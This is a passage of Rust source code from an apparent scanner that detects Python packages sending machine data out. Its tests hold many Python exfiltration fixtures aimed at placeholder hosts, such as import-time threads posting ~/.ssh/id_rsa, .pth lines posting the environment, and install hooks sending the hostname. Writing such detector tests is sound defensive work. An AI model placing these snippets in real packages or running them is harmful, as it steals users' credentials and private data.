    if name.is_empty() {
        return None;
    }
    let rest = &stmt[lead + name.len()..];
    for m in [".append(", ".extend(", ".update(", ".add(", ".insert(", ".write(", ".writelines(", ".setdefault("] {
        if rest.starts_with(m) {
            return Some((name, lead + name.len() + m.len()));
        }
    }
    None
}

/// The names bound by an assignment's targets: each comma-separated target's leading name
/// (`x`, `x[k]` → `x`, `a, b`); attribute targets (`self.x`) bind nothing here.
fn names_of(targets: &str) -> Vec<&str> {
    let mut out = Vec::new();
    for t in targets.split([',', '=']) {
        let t = t.trim().trim_start_matches(['(', '[', '*']).trim();
        let n = leading_word(t);
        if n.is_empty() || n.as_bytes()[0].is_ascii_digit() {
            continue;
        }
        let after = t[n.len()..].trim_start();
        if after.starts_with('.') {
            continue;
        }
        out.push(n);
    }
    out
}

/// `key=value` → `key`.
fn keyword_of(arg: &str) -> Option<&str> {
    let n = leading_word(arg);
    if n.is_empty() {
        return None;
    }
    let after = arg[n.len()..].trim_start();
    (after.starts_with('=') && !after.starts_with("==")).then_some(n)
}

/// Splits `s` at commas of bracket depth 0 (no strings: used on parameter lists).
fn split_top(s: &str) -> Vec<&str> {
    let b = s.as_bytes();
    let mut out = Vec::new();
    let mut depth = 0i32;
    let mut from = 0;
    for (i, &c) in b.iter().enumerate() {
        match c {
            b'(' | b'[' | b'{' => depth += 1,
            b')' | b']' | b'}' => depth -= 1,
            b',' if depth == 0 => {
                out.push(&s[from..i]);
                from = i + 1;
            }
            _ => {}
        }
    }
    out.push(&s[from..]);
    out
}

/// The ranges of a call's arguments in `start..end`: commas at bracket depth 0 outside strings.
fn split_top_ranges(src: &Source<'_>, start: usize, end: usize) -> Vec<(usize, usize)> {
    let b = src.text.as_bytes();
    let spans = src.spans();
    let mut k = spans.partition_point(|s| s.end <= start);
    let mut out = Vec::new();
    let mut depth = 0i32;
    let mut from = start;
    let mut i = start;
    while i < end {
        if let Some(sp) = spans.get(k) {
            if sp.start <= i {
                if sp.end > i {
                    i = sp.end;
                }
                k += 1;
                continue;
            }
        }
        match b[i] {
            b'(' | b'[' | b'{' => depth += 1,
            b')' | b']' | b'}' => depth -= 1,
            b',' if depth == 0 => {
                out.push((from, i));
                from = i + 1;
            }
            _ => {}
        }
        i += 1;
    }
    if !src.text[from..end].trim().is_empty() {
        out.push((from, end));
    }
    out
}

/// Calls of the member's own functions in `start..end`: (callee, argument range, caller scope).
/// The callees are [`ident_words`] followed by `(` (the walk reads at most [`MAX_EXPR`] bytes;
/// the caller cuts `end` there already).
fn calls_in<'t>(
    src: &Source<'t>,
    start: usize,
    end: usize,
    defs: &HashSet<&'t str>,
    scope: &'t str,
    out: &mut Vec<(&'t str, (usize, usize), &'t str)>,
) {
    let text = src.text;
    let b = text.as_bytes();
    for (s, j) in ident_words(text, start, end) {
        if out.len() >= MAX_CALLS {
            break;
        }
        if b.get(j) == Some(&b'(') && defs.contains(&text[s..j]) && src.is_code(s) {
            let args = pysrc::call_argument(text, j + 1, MAX_EXPR);
            out.push((&text[s..j], (j + 1, j + 1 + args.len()), scope));
        }
    }
}

/// Logical statements of code: (start, end) of each, leading blanks skipped. Strings and
/// comments are skipped through the lexed spans; a newline inside brackets or after `\` does
/// not end one; `;` does; a compound header's body on the same line (`if x: y = 1`) is its own
/// statement. At most [`MAX_STATEMENTS`].
fn statements(src: &Source<'_>) -> Vec<(usize, usize)> {
    let text = src.text;
    let b = text.as_bytes();
    let spans = src.spans();
    let mut out = Vec::new();
    let mut k = 0;
    let mut depth = 0i32;
    let mut start = 0;
    let mut i = 0;
    let mut header = false;
    let push = |out: &mut Vec<(usize, usize)>, s: usize, e: usize| {
        let e = e.max(s);
        let t = &text[s..e];
        let lead = t.len() - t.trim_start().len();
        if !t.trim().is_empty() && out.len() < MAX_STATEMENTS {
            out.push((s + lead, e));
        }
    };
    while i < b.len() {
        if let Some(sp) = spans.get(k) {
            if sp.start <= i {
                if sp.kind == Kind::Comment && depth == 0 {
                    // A comment ends the code of its line.
                    push(&mut out, start, sp.start);
                    start = sp.end;
                    header = false;
                }
                if sp.end > i {
                    i = sp.end;
                }
                k += 1;
                continue;
            }
        }
        if i == start {
            let w = leading_word(&text[i..pysrc::floor_char(text, (i + 16).min(b.len()))]);
            header = matches!(
                w,
                "if" | "elif"
                    | "else"
                    | "for"
                    | "while"
                    | "with"
                    | "try"
                    | "except"
                    | "finally"
                    | "def"
                    | "class"
                    | "async"
            );
        }
        match b[i] {
            b'(' | b'[' | b'{' => depth += 1,
            b')' | b']' | b'}' => depth = (depth - 1).max(0),
            b'\n' if depth == 0 && !(i > 0 && b[i - 1] == b'\\') => {
                push(&mut out, start, i);
                start = i + 1;
                header = false;
            }
            b';' if depth == 0 => {
                push(&mut out, start, i);
                start = i + 1;
                header = false;
            }
            b':' if depth == 0 && header => {
                push(&mut out, start, i);
                start = i + 1;
                header = false;
            }
            b' ' | b'\t' if i == start => start = i + 1,
            _ => {}
        }
        i += 1;
    }
    push(&mut out, start.min(b.len()), b.len());
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::scan::detector::Detector;
    use std::time::{Duration, Instant};

    fn scan(path: &str, role: FileRole, text: &str) -> Vec<String> {
        let file = TextFile::new(path, role, true, text);
        let mut hits = Hits::default();
        SourceToSink.scan_text(&file, &mut hits);
        hits.iter().map(|(_, h)| h.evidence.indicator.clone().unwrap_or_default()).collect()
    }

    fn module(text: &str) -> Vec<String> {
        scan("pkg/__init__.py", FileRole::Runtime, text)
    }

    #[test]
    fn data_of_this_machine_sent_where_it_runs_is_reported() {
        let cases: &[(&str, &str, FileRole, &str)] = &[
            ("host name posted at module level", "pkg/__init__.py", FileRole::Runtime,
             "import socket, requests\nrequests.post('https://c.example/x', json={'h': socket.gethostname()})\n"),
            ("environment value assigned, then posted", "pkg/__init__.py", FileRole::Runtime,
             "import os, requests\ntoken = os.environ.get('GITHUB_TOKEN')\nrequests.post('https://c.example/x', data=token)\n"),
            ("host name spliced into the URL of a bare get", "pkg/__init__.py", FileRole::Runtime,
             "import platform\nfrom requests import get\nget('https://c.example/?h=' + platform.node())\n"),
            ("http.client request with the user name", "pkg/__init__.py", FileRole::Runtime,
             "import getpass, http.client\nc = http.client.HTTPSConnection('c.example')\nc.request('POST', '/', body=getpass.getuser())\n"),
            ("a helper returning the cwd, posted", "pkg/__init__.py", FileRole::Runtime,
             "import os, requests\ndef info():\n    return os.getcwd()\nrequests.post('https://c.example', data=info())\n"),
            ("a function called on import sends its parameter", "pkg/__init__.py", FileRole::Runtime,
             "import socket, requests\ndef send(d):\n    requests.post('https://c.example', data=d)\nsend(socket.gethostname())\n"),
            ("ssh keys read in a thread started on import", "pkg/__init__.py", FileRole::Runtime,
             "import os, threading, urllib.request\ndef steal():\n    p = os.path.expanduser('~/.ssh/id_rsa')\n    with open(p) as f:\n        key = f.read()\n    urllib.request.urlopen('https://c.example', data=key.encode())\nthreading.Thread(target=steal).start()\n"),
            ("user name in a DNS name", "pkg/__init__.py", FileRole::Runtime,
             "import socket, getpass\nsocket.gethostbyname(getpass.getuser() + '.c.example.com')\n"),
            ("command output handed to curl", "pkg/__init__.py", FileRole::Runtime,
             "import os, subprocess\nsubprocess.run(['curl', '-d', os.popen('whoami').read(), 'https://c.example'])\n"),
            ("install command posts the host name", "setup.py", FileRole::InstallTime,
             "import socket, requests\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        requests.get('https://c.example', params={'h': socket.gethostname()})\n        install.run(self)\nsetup(cmdclass={'install': I})\n"),
            ("environment mailed on import", "pkg/__init__.py", FileRole::Runtime,
             "import os, smtplib\ns = smtplib.SMTP('mail.example')\ns.sendmail('a@example', 'b@example', str(dict(os.environ)))\n"),
            ("host name over a raw socket", "pkg/__init__.py", FileRole::Runtime,
             "import socket\ns = socket.socket()\ns.connect(('192.0.2.1', 80))\ns.send(socket.gethostname().encode())\n"),
            ("home listing collected in a loop and posted", "pkg/__init__.py", FileRole::Runtime,
             "import os, json, requests\nfound = []\nfor n in os.listdir(os.path.expanduser('~')):\n    found.append(n)\nrequests.post('https://c.example', data=json.dumps(found))\n"),
            ("a .pth line posting the environment", "x.pth", FileRole::InstallTime,
             "import os, urllib.request; urllib.request.urlopen('https://c.example', data=str(os.environ).encode())\n"),
        ];
        for (name, path, role, text) in cases {
            assert!(!scan(path, *role, text).is_empty(), "{name}: not reported");
        }
    }

    #[test]
    fn principled_exclusions_are_not_reported() {
        let cases: &[(&str, &str, FileRole, &str)] = &[
            ("OS family and Python version in a User-Agent", "pkg/__init__.py", FileRole::Runtime,
             "import platform, sys, requests\nUA = 'x/1 (%s; py%s)' % (platform.system(), sys.version.split()[0])\nrequests.get('https://c.example', headers={'User-Agent': UA})\n"),
            ("a destination from the environment", "pkg/__init__.py", FileRole::Runtime,
             "import os, requests\nrequests.get(os.environ['SERVICE_URL'])\n"),
            ("a file-or-URL argument that may be a user path", "pkg/__init__.py", FileRole::Runtime,
             "import os, urllib.request\ndef _open(fname):\n    if fname.startswith('https://'):\n        return urllib.request.urlopen(fname)\n    fname = os.path.expanduser(fname)\n    return open(fname)\nRC = _open(os.path.join(os.path.expanduser('~'), '.pkgrc'))\n"),
            ("an environment value spliced into the URL", "pkg/__init__.py", FileRole::Runtime,
             "import os, requests\nBASE = os.environ.get('API_BASE', 'https://c.example')\nr = requests.get(BASE + '/v1/status')\n"),
            ("timeout, proxies and auth from the environment", "pkg/__init__.py", FileRole::Runtime,
             "import os, requests\nrequests.get('https://c.example', timeout=float(os.environ.get('T', 5)), proxies={'https': os.environ.get('HTTPS_PROXY')}, auth=(os.getenv('U'), os.getenv('P')))\n"),
            ("a download's local file name under home", "pkg/__init__.py", FileRole::Runtime,
             "import os, urllib.request\nurllib.request.urlretrieve('https://c.example/m.bin', os.path.join(os.path.expanduser('~'), '.cache', 'm.bin'))\n"),
            ("resolving the machine's own name", "pkg/__init__.py", FileRole::Runtime,
             "import socket\nIP = socket.gethostbyname(socket.gethostname())\n"),
            ("own name resolved through a variable", "pkg/__init__.py", FileRole::Runtime,
             "import socket\nhost = socket.gethostname()\naddr = socket.gethostbyname(host)\n"),
            ("a flow in a function nothing runs on import", "pkg/__init__.py", FileRole::Runtime,
             "import getpass, requests\ndef report():\n    requests.post('https://c.example', data=getpass.getuser())\n"),
            ("a flow under the __main__ guard", "pkg/cli.py", FileRole::Runtime,
             "import socket, requests\nif __name__ == '__main__':\n    requests.post('https://c.example', data=socket.gethostname())\n"),
            ("a test module", "tests/test_net.py", FileRole::Runtime,
             "import socket, requests\nrequests.post('https://c.example', data=socket.gethostname())\n"),
            ("curl writing into the home directory", "setup.py", FileRole::InstallTime,
             "import os, subprocess\nsubprocess.run(['curl', '-o', os.path.join(os.path.expanduser('~'), 'x.tgz'), 'https://c.example/x.tgz'])\n"),
            ("a process that is not a network tool", "setup.py", FileRole::InstallTime,
             "import os, subprocess, socket\nsubprocess.run(['echo', socket.gethostname()])\n"),
            ("the package's own version sent", "pkg/__init__.py", FileRole::Runtime,
             "import requests\n__version__ = '1.2'\nrequests.get('https://c.example/check', params={'v': __version__})\n"),
            ("a source in a comment or docstring", "pkg/__init__.py", FileRole::Runtime,
             "import requests\n# socket.gethostname() is not sent\n'''os.environ is not sent'''\nrequests.get('https://c.example')\n"),
        ];
        for (name, path, role, text) in cases {
            let got = scan(path, *role, text);
            assert!(got.is_empty(), "{name}: reported {got:?}");
        }
    }

    #[test]
    fn the_evidence_names_what_is_sent_and_the_sink() {
        let got = module("import socket, getpass, requests\nrequests.post('https://c.example', data={'h': socket.gethostname(), 'u': getpass.getuser()})\n");
        assert_eq!(got, vec!["host name, user name -> requests.post".to_string()]);
    }

    /// (line, column, indicator) of each hit.
    fn hits_of(path: &str, role: FileRole, text: &str) -> Vec<(u32, u32, String)> {
        let file = TextFile::new(path, role, true, text);
        let mut hits = Hits::default();
        SourceToSink.scan_text(&file, &mut hits);
        hits.iter()
            .map(|(_, h)| {
                let e = &h.evidence;
                (e.line.unwrap_or(0), e.column.unwrap_or(0), e.indicator.clone().unwrap_or_default())
            })
            .collect()
    }

    /// The sinks as the detector found them before: [`SINK`] searched whole, every word looked
    /// for up front.
    fn find_sinks_whole(src: &Source<'_>) -> Vec<(usize, usize, SinkKind)> {
        let text = src.text;
        let raw_ok = ["socket", "smtplib", "SMTP", "ftplib", "FTP"].iter().any(|w| text.contains(w));
        let method_ok = ["requests", "httpx", "aiohttp", "urllib3", "http.client", "HTTPConnection", "HTTPSConnection"]
            .iter()
            .any(|w| text.contains(w));
        let bare_ok = ["from requests import", "from httpx import"].iter().any(|w| text.contains(w));
        let request_ok = text.contains("urllib") || text.contains("Request");
        let mut out = Vec::new();
        for c in SINK.captures_iter(text) {
            if out.len() >= MAX_SINKS {
                break;
            }
            let whole = c.get(0).expect("match");
            let (g, kind) = if let Some(g) = c.get(1) {
                let n = g.as_str();
                if n.starts_with('.') && !method_ok || n == "Request" && !request_ok {
                    continue;
                }
                (g, SinkKind::Http(0))
            } else if let Some(g) = c.get(2) {
                if g.as_str().starts_with('.') && !method_ok {
                    continue;
                }
                (g, SinkKind::Http(1))
            } else if let Some(g) = c.get(3) {
                if !raw_ok {
                    continue;
                }
                (g, SinkKind::Raw)
            } else if let Some(g) = c.get(4) {
                (g, SinkKind::Dns)
            } else if let Some(g) = c.get(5) {
                (g, SinkKind::Process)
            } else if let Some(g) = c.get(6) {
                (g, SinkKind::Download)
            } else if let Some(g) = c.get(7) {
                if !bare_ok {
                    continue;
                }
                (g, SinkKind::Http(0))
            } else {
                continue;
            };
            let start = g.start();
            let b = text.as_bytes();
            if start > 0 && g.as_str() == "Request" && (b[start - 1] == b'.' || is_ident(b[start - 1])) {
                continue;
            }
            if !src.is_code(start) || pysrc::is_definition(text, start) {
                continue;
            }
            out.push((start, whole.end(), kind));
        }
        out
    }

    /// The detector's full path, in the order it ran before its cheap rejections: every sink
    /// found ([`find_sinks_whole`]) and asked whether it runs, then a source literal, then the
    /// flow with every identifier looked up (no word filter).
    fn hits_full_path(path: &str, role: FileRole, text: &str) -> Vec<(u32, u32, String)> {
        let file = TextFile::new(path, role, true, text);
        if pysrc::test_member(&file) {
            return Vec::new();
        }
        let everywhere = match file.role {
            FileRole::InstallTime => true,
            FileRole::Runtime if roles::is_imported_module(file.path) => false,
            _ => return Vec::new(),
        };
        let src = file.source();
        let sinks = find_sinks_whole(src);
        let running: Vec<(usize, usize, SinkKind)> =
            if everywhere { sinks } else { sinks.into_iter().filter(|&(o, _, _)| runs_on_import(src, o)).collect() };
        if running.is_empty() || !SOURCE.is_match(text) && !FILE_LITERAL.is_match(text) {
            return Vec::new();
        }
        let flow = Flow::with_filter(src, sources(src), WordFilter([u64::MAX; 64]), None);
        let mut out = Vec::new();
        for (offset, after_paren, kind) in running {
            if out.len() >= MAX_HITS_PER_FILE {
                break;
            }
            if let Some(what) = flow.sends(offset, after_paren, kind) {
                let name = text[offset..after_paren - 1].trim_end().trim_start_matches('.');
                let e = pysrc::evidence(&file, offset, format!("{what} -> {name}"));
                out.push((e.line.unwrap_or(0), e.column.unwrap_or(0), e.indicator.unwrap_or_default()));
            }
        }
        out
    }

    /// Pieces of modules that send, read sources, define and call functions, hide things in
    /// strings and comments, and import bare `get`/`post`.
    const PIECES: &[&str] = &[
        "import os, socket, requests\n",
        "from requests import get, post\n",
        "from httpx import put\n",
        "import smtplib, urllib.request\n",
        "\n",
        "    ",
        "def f(x, y=1):\n",
        "def g(d):\n",
        "async def h():\n",
        "class C:\n",
        "if __name__ == '__main__':\n",
        "return ",
        "yield ",
        "for n in ",
        "with open(p) as fh:\n",
        "v = ",
        "w = ",
        "d['k'] = ",
        "found.append(",
        "x",
        "v",
        "w",
        "d",
        "p",
        "fh.read()",
        "f(",
        "g(",
        ")",
        "(",
        ", ",
        "data=",
        "timeout=",
        "socket.gethostname()",
        "getpass.getuser()",
        "os.getcwd()",
        "os.environ.get('K')",
        "os.environ['K']",
        "os.popen('id').read()",
        "os.path.expanduser('~/.ssh/id_rsa')",
        "'/etc/passwd'",
        "platform.uname().system",
        "requests.post('https://c.example', ",
        "requests.get(",
        "get(",
        "post(",
        ".post(",
        ".send(",
        "s.sendall(",
        "urllib.request.urlopen(",
        "Request(",
        "socket.gethostbyname(",
        "subprocess.run(['curl', '-d', ",
        "os.system('wget ' + ",
        "urlretrieve(",
        "threading.Thread(target=f).start()\n",
        "# os.environ requests.post(\n",
        "'''os.getcwd() get(x)'''\n",
        "f'{os.getcwd()}'",
        "'curl'",
        "+ ",
        "é",
        ";",
    ];

    #[test]
    fn cheap_rejections_give_what_the_full_path_gives() {
        type Case<'a> = (&'a str, &'a str, FileRole, &'a str);
        let cases: &[Case<'_>] = &[
            ("no source literal: a plain client", "pkg/__init__.py", FileRole::Runtime,
             "import requests\nrequests.post('https://c.example', data={'a': 1})\n"),
            ("a source literal only in a comment", "pkg/__init__.py", FileRole::Runtime,
             "import requests\n# reads os.environ\nrequests.post('https://c.example', data=x)\n"),
            ("a source only in a docstring", "setup.py", FileRole::InstallTime,
             "'''Uses socket.gethostname()'''\nimport requests\nrequests.post('https://c.example', data=x)\n"),
            ("a network tool and no source", "setup.py", FileRole::InstallTime,
             "import subprocess\nsubprocess.run(['curl', 'https://c.example'])\n"),
            ("a secret path literal read and sent", "setup.py", FileRole::InstallTime,
             "import requests\nrequests.post('https://c.example', data=open('/etc/passwd').read())\n"),
            ("a secret path literal not read", "setup.py", FileRole::InstallTime,
             "import requests\nrequests.post('https://c.example', data='/etc/passwd')\n"),
            ("a source and no sink", "pkg/__init__.py", FileRole::Runtime,
             "import os\nHOME = os.path.expanduser('~')\n"),
            ("a source and a sink in a function nothing runs", "pkg/__init__.py", FileRole::Runtime,
             "import os, requests\ndef f():\n    requests.post('https://c.example', data=os.getcwd())\n"),
            ("a bare get imported and sent the host name", "pkg/__init__.py", FileRole::Runtime,
             "import socket\nfrom requests import get\nget('https://c.example/?h=' + socket.gethostname())\n"),
            ("a bare get right after a client call's parenthesis", "pkg/__init__.py", FileRole::Runtime,
             "import socket\nfrom requests import get\nrequests.post(get(socket.gethostname()))\n"),
            ("a bare get not imported", "pkg/__init__.py", FileRole::Runtime,
             "import socket, requests\nget('https://c.example/?h=' + socket.gethostname())\n"),
            ("a method send without a client import", "pkg/__init__.py", FileRole::Runtime,
             "import os\nq.post(os.environ['K'])\n"),
            ("a raw send without sockets", "pkg/__init__.py", FileRole::Runtime,
             "import os, requests\nch.send(os.environ['K'])\n"),
            ("names carried through a helper's return and a parameter", "pkg/__init__.py", FileRole::Runtime,
             "import os, requests\ndef info():\n    return os.getcwd()\ndef send(d):\n    requests.post('https://c.example', data=d)\nsend(info())\n"),
            ("a tainted name shadowed in another function", "pkg/__init__.py", FileRole::Runtime,
             "import os, requests\ndef a():\n    v = os.getcwd()\nv = 1\nrequests.post('https://c.example', data=v)\n"),
            ("a tainted name only in a string", "pkg/__init__.py", FileRole::Runtime,
             "import os, requests\nv = os.getlogin()\nrequests.post('https://c.example', data='v')\n"),
        ];
        for (name, path, role, text) in cases {
            assert_eq!(hits_of(path, *role, text), hits_full_path(path, *role, text), "{name}");
        }
        let mut reported = 0;
        for (i, text) in pysrc::random_texts(PIECES, 40, 0x2f6b_3c5a_9e1d_47c3, 4000).iter().enumerate() {
            let (path, role) =
                if i % 2 == 0 { ("setup.py", FileRole::InstallTime) } else { ("pkg/m.py", FileRole::Runtime) };
            let got = hits_of(path, role, text);
            assert_eq!(got, hits_full_path(path, role, text), "{text:?}");
            reported += usize::from(!got.is_empty());
        }
        assert!(reported > 200, "the random texts report: {reported}");
    }

    #[test]
    fn demand_driven_flow_is_the_whole_flow() {
        // For every sink of a module (running or not), alone and all together: what the flow
        // kept to the sinks' demand says each sends is what the full flow says.
        let check = |name: &str, text: &str| {
            let src = Source::python(text);
            let sinks = find_sinks(&src);
            let full = Flow::with_filter(&src, sources(&src), WordFilter::default(), None);
            let want: Vec<Option<String>> = sinks.iter().map(|&(o, a, k)| full.sends(o, a, k)).collect();
            let all = Flow::new(&src, sources(&src), &sinks);
            let got: Vec<Option<String>> = sinks.iter().map(|&(o, a, k)| all.sends(o, a, k)).collect();
            assert_eq!(got, want, "{name}: all sinks");
            for (i, &(o, a, k)) in sinks.iter().enumerate() {
                let one = Flow::new(&src, sources(&src), &[(o, a, k)]);
                assert_eq!(one.sends(o, a, k), want[i], "{name}: sink at {o}");
            }
            want.iter().filter(|w| w.is_some()).count()
        };
        let cases = [
            ("direct", "import os, requests\nrequests.post('https://c.example', data=os.getcwd())\n"),
            ("a chain", "import os, requests\na = os.getcwd()\nb = a\nc = [b]\nrequests.post('https://c.example', data=c)\n"),
            ("a chain longer than the passes, written backwards", "import os, requests\ndef f():\n    e = d\n    d = c\n    c = b\n    b = a\n    a = os.getcwd()\n    requests.post('https://c.example', data=e)\nf()\n"),
            ("through a parameter and a return", "import os, requests\ndef info():\n    return os.getcwd()\ndef send(d):\n    requests.post('https://c.example', data=d)\nsend(info())\n"),
            ("a module name read in a function", "import socket, requests\nH = socket.gethostname()\ndef f():\n    requests.post('https://c.example', data=H)\nf()\n"),
            ("two functions of one name", "import os, requests\ndef f():\n    v = os.getlogin()\ndef f():\n    requests.post('https://c.example', data=v)\nf()\n"),
            ("a container update", "import os, requests\nd = {}\nd['k'] = os.environ['K']\nx = []\nx.append(d)\nrequests.post('https://c.example', json=x)\n"),
            ("for and with targets", "import os, requests\nfor n in os.listdir(os.path.expanduser('~/.ssh')):\n    with open(n) as fh:\n        requests.post('https://c.example', data=fh.read())\n"),
            ("unrelated taint elsewhere", "import os, requests\nu = os.getcwd()\nv = 1\nrequests.post('https://c.example', data=v)\nrequests.post('https://c.example', data=u)\n"),
            ("a name only in a string", "import os, requests\nv = os.getlogin()\nrequests.post('https://c.example', data='v')\n"),
            ("a network tool through a name", "import os, subprocess\ncmd = ['curl', '-d']\nsubprocess.run(cmd + [os.environ['K']])\n"),
        ];
        let mut sending = 0;
        for (name, text) in cases {
            sending += check(name, text);
        }
        assert!(sending >= 8, "the named cases send: {sending}");
        let mut sending = 0;
        for text in pysrc::random_texts(PIECES, 40, 0x51d2_8a3b_c6e4_f097, 3000) {
            sending += check(&text, &text);
        }
        assert!(sending > 500, "the random modules send: {sending}");
    }

    #[test]
    fn find_sinks_is_the_whole_search() {
        let mut found = 0;
        for text in pysrc::random_texts(PIECES, 40, 0x7c15_9e37_79b9_4a7f, 4000) {
            let src = Source::python(&text);
            let got = find_sinks(&src);
            assert!(got == find_sinks_whole(&src), "{text:?}");
            found += got.len();
        }
        assert!(found > 4000, "the random texts hold sinks: {found}");
    }

    fn time(text: &str) -> Duration {
        let t = Instant::now();
        let _ = module(text);
        t.elapsed()
    }

    #[test]
    fn hostile_members_cost_linear_time() {
        // Tens of thousands of functions, calls, assignments and sinks.
        type Make = fn(usize) -> String;
        let shapes: &[(&str, Make)] = &[
            ("functions of one name, each called at module level", |n| {
                let mut s = String::from("import socket, requests\n");
                for _ in 0..n {
                    s.push_str("def f(x):\n    requests.post('https://c.example', data=x)\nf(socket.gethostname())\n");
                }
                s
            }),
            ("a chain of assignments", |n| {
                let mut s = String::from("import os, requests\nv0 = os.getcwd()\n");
                for i in 1..n {
                    s.push_str(&format!("v{i} = v{}\n", i - 1));
                }
                s.push_str(&format!("requests.post('https://c.example', data=v{})\n", n - 1));
                s
            }),
            ("sinks with sources, all on one line", |n| {
                let mut s = String::from("import os, requests; ");
                for _ in 0..n {
                    s.push_str("requests.post('https://c.example', data=os.environ.get('K')); ");
                }
                s
            }),
            ("nested calls of a defined function", |n| {
                let mut s = String::from("import socket, requests\ndef g(x):\n    return x\nv = ");
                for _ in 0..n {
                    s.push_str("g(");
                }
                s.push_str("socket.gethostname()");
                for _ in 0..n {
                    s.push(')');
                }
                s.push_str("\nrequests.post('https://c.example', data=v)\n");
                s
            }),
            ("functions each calling the next", |n| {
                let mut s = String::from("import getpass, requests\n");
                for i in 0..n {
                    s.push_str(&format!("def f{i}(x):\n    return f{}(x)\n", i + 1));
                }
                s.push_str(&format!(
                    "def f{n}(x):\n    requests.post('https://c.example', data=x)\nf0(getpass.getuser())\n"
                ));
                s
            }),
        ];
        for (name, make) in shapes {
            let small = make(5_000);
            let big = make(20_000);
            let t1 = time(&small);
            let t4 = time(&big);
            assert!(t4 < Duration::from_secs(2), "{name}: {t4:?} for 20,000");
            assert!(t4 < t1 * 12 + Duration::from_millis(100), "{name}: 5,000 took {t1:?}, 20,000 took {t4:?}");
        }
    }

    /// The one gate is the two searches it replaces: named cases and random texts.
    #[test]
    fn one_gate_is_either_search() {
        let either = |t: &str| SOURCE.is_match(t) || FILE_LITERAL.is_match(t);
        let cases = [
            ("empty", ""),
            ("a source", "h = socket.gethostname()"),
            ("a secret path only", "p = '~/.ssh/id_rsa'"),
            ("both", "os.environ['X']; open('/etc/passwd')"),
            ("neither", "import requests\nrequests.get(u)\n"),
            ("a source inside a word", "xgetenv(1)"),
        ];
        for (name, text) in cases {
            assert_eq!(SOURCE_OR_FILE.is_match(text), either(text), "{name}");
        }
        let pieces = [
            "getenv",
            "os.",
            "environ",
            "[",
            ".ssh/",
            "_history",
            "Cookies",
            "x",
            " ",
            "\n",
            "é",
            "getfqdn",
            "ipinfo.io",
        ];
        let (mut yes, mut no) = (0, 0);
        for text in pysrc::random_texts(&pieces, 6, 0x3c6e_f372_fe94_f82b, 5_000) {
            let want = either(&text);
            assert_eq!(SOURCE_OR_FILE.is_match(&text), want, "{text:?}");
            yes += usize::from(want);
            no += usize::from(!want);
        }
        assert!(yes > 500 && no > 500, "both answers: {yes} and {no}");
    }
}
